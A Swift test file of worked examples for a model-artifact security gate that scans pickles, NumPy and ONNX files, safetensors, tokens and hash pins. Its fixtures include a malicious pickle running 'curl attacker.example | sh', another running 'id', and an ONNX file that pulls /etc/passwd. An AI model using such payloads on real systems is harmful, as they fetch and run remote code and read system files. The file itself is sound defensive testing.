import ModelGate

/// The security gate's worked examples: documentation and tests at once. Tokens are made up in
/// the issuers' published shapes; none is a real credential.
enum SecurityExamples {
    static let all: [GateExample] = [cleanPinned, committedToken, swappedArtifact, unlistedFile, picklingCodeExecution, safePickle,
                                     unknownGlobal, objectArray, safetensorsOverlap, onnxExternalData, onnxOwnDomain, badPin]

    static let picklingCodeExecution = GateExample(
        "A pickle that runs a shell command when loaded fails, whatever the file is called",
        yaml: """
        id: release
        type: security
        paths: [weights.bin]
        """,
        files: ["weights.bin": "cos\nsystem\n(S'curl attacker.example | sh'\ntR."],
        expect: .fail, metrics: ["critical_findings": 1])

    static let safePickle = GateExample(
        "A pickle that only rebuilds a collections.OrderedDict passes (protocol 2, bytes shown in hex)",
        yaml: """
        id: release
        type: security
        paths: [state.pkl]
        """,
        files: ["state.pkl": .bytes([0x80, 0x02] + Array("ccollections\nOrderedDict\nq".utf8) + [0x00, 0x29, 0x52, 0x71, 0x01, 0x2E])],
        expect: .pass, metrics: ["findings": 0])

    static let objectArray = GateExample(
        "A NumPy .npy object array is a pickle inside: its payload is judged like one (the payload here is a protocol 0 pickle)",
        yaml: """
        id: release
        type: security
        paths: [embeddings.npy]
        """,
        files: ["embeddings.npy": .bytes([0x93] + Array("NUMPY".utf8) + [1, 0, 55, 0]
            + Array("{'descr': '|O', 'fortran_order': False, 'shape': (1,)}\n".utf8)
            + Array("cos\nsystem\n(S'id'\ntR.".utf8))],
        expect: .fail, metrics: ["critical_findings": 1])

    static let safetensorsOverlap = GateExample(
        "A safetensors file whose tensors share bytes fails: readers trusting the header read out of place",
        yaml: """
        id: release
        type: security
        paths: [model.safetensors]
        """,
        files: ["model.safetensors": .bytes([111, 0, 0, 0, 0, 0, 0, 0]
            + Array(#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}   "#.utf8)
            + Array(repeating: 0, count: 12))],
        expect: .fail, metrics: ["high_findings": 1])

    static let onnxExternalData = GateExample(
        "An ONNX model whose weights are read from /etc/passwd fails: onnxruntime would load that file into a tensor",
        yaml: """
        id: release
        type: security
        paths: [model.onnx]
        """,
        // ir_version 8; a graph with one Relu node and one initializer whose data_location (field 14) is EXTERNAL.
        files: ["model.onnx": .bytes([0x08, 0x08] + protobuf(7, protobuf(1, protobuf(4, "Relu"))
            + protobuf(5, protobuf(8, "w") + protobuf(13, protobuf(1, "location") + protobuf(2, "/etc/passwd")) + [0x70, 0x01])))],
        expect: .fail, metrics: ["critical_findings": 1])

    static let onnxOwnDomain = GateExample(
        "A custom ONNX operator passes only when allow_onnx_domains names its domain: here com.example.ops is vouched for, com.other is not",
        yaml: """
        id: release
        type: security
        paths: [model.onnx]
        allow_onnx_domains: [com.example.ops]
        """,
        // ir_version 8; a graph with a node in each domain (NodeProto: op_type 4, domain 7).
        files: ["model.onnx": .bytes([0x08, 0x08] + protobuf(7, protobuf(1, protobuf(4, "Gelu") + protobuf(7, "com.example.ops"))
            + protobuf(1, protobuf(4, "Run") + protobuf(7, "com.other"))))],
        expect: .fail, metrics: ["high_findings": 1])

    /// A length-delimited protobuf field, for the ONNX examples (field numbers and lengths under 128).
    private static func protobuf(_ number: UInt8, _ bytes: [UInt8]) -> [UInt8] { [number << 3 | 2, UInt8(bytes.count)] + bytes }
    private static func protobuf(_ number: UInt8, _ text: String) -> [UInt8] { protobuf(number, Array(text.utf8)) }

    static let unknownGlobal = GateExample(
        "A team's own class passes only when allow_globals names it",
        yaml: """
        id: release
        type: security
        paths: [model.pkl]
        allow_globals: [acme.models.*]
        """,
        files: ["model.pkl": .bytes([0x80, 0x02] + Array("cacme.models.scoring\nRiskModel\nq".utf8) + [0x00, 0x29, 0x81, 0x71, 0x01, 0x2E])],
        expect: .pass, metrics: ["findings": 0])

    static let cleanPinned = GateExample(
        "A model file whose bytes match its pin, beside a clean config",
        yaml: """
        id: release
        type: security
        paths: [model/]
        sha256:
          model/weights.txt: 4e5e8973a5792d4abf16f270a887978f78b97f58f106346245fd0f5384e057b9
        """,
        files: ["model/weights.txt": "intercept -1.2\nincome -0.00001\n", "model/config.yaml": "threshold: 0.5\nregion: all\n"],
        expect: .pass, metrics: ["findings": 0])

    static let committedToken = GateExample(
        "A token committed in a config fails the gate; the report shows it masked",
        yaml: """
        id: release
        type: security
        paths: [model/]
        """,
        files: ["model/config.yaml": "hub:\n  token: hf_aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH\n"],
        expect: .fail, metrics: ["high_findings": 1, "findings": 1])

    static let swappedArtifact = GateExample(
        "An artifact that is not the pinned bytes is a critical finding",
        yaml: """
        id: release
        type: security
        paths: [model.bin]
        sha256:
          model.bin: abababababababababababababababababababababababababababababababab
        """,
        files: ["model.bin": "weights v2\n"],
        expect: .fail, metrics: ["critical_findings": 1])

    static let unlistedFile = GateExample(
        "A file the manifest does not list fails the gate",
        yaml: """
        id: release
        type: security
        manifest: model/SHA256SUMS
        """,
        files: [
            "model/SHA256SUMS": "cf945b5236e101dbe0471d5200f28b1ae64f21c1f35bf55fcf40cd0fe42cd8e7  weights.txt\n",
            "model/weights.txt": "w\n",
            "model/extra.py": "import os\n",
        ],
        expect: .fail, metrics: ["high_findings": 1, "critical_findings": 0])

    static let badPin = GateExample(
        "A pin that is not a SHA-256 digest is refused",
        yaml: """
        id: release
        type: security
        paths: [model.bin]
        sha256:
          model.bin: abc123
        """,
        rejectedSaying: "must be a SHA-256 digest: 64 hexadecimal digits")
}
